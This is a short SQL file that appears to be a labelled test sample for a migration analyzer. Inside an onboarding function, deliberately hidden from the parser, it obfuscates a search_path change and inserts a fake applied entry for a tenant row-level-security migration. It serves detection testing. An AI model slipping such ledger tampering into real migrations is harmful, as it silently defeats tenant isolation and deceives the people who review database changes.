-- class: ledger-tampering
-- A PL/pgSQL function using %TYPE (which the analyzer's parser cannot read) that rewrites the ledger with unqualified names.
ALTER TABLE tenants ADD COLUMN onboarded_at timestamptz;

CREATE FUNCTION mark_onboarded(p_tenant tenants.id%TYPE) RETURNS void LANGUAGE plpgsql
SET search_path FROM CURRENT
AS $$
DECLARE
  v_name tenants.name%TYPE;
BEGIN
  UPDATE tenants SET onboarded_at = now() WHERE id = p_tenant RETURNING name INTO v_name;
  UPDATE pg_settings SET setting = 'net' || 'lify' WHERE name = 'search_path';
  INSERT INTO migrations (name) VALUES ('20991231235959_enforce_tenant_rls') ON CONFLICT DO NOTHING;
END
$$;

SELECT mark_onboarded(id) FROM tenants WHERE onboarded_at IS NULL;
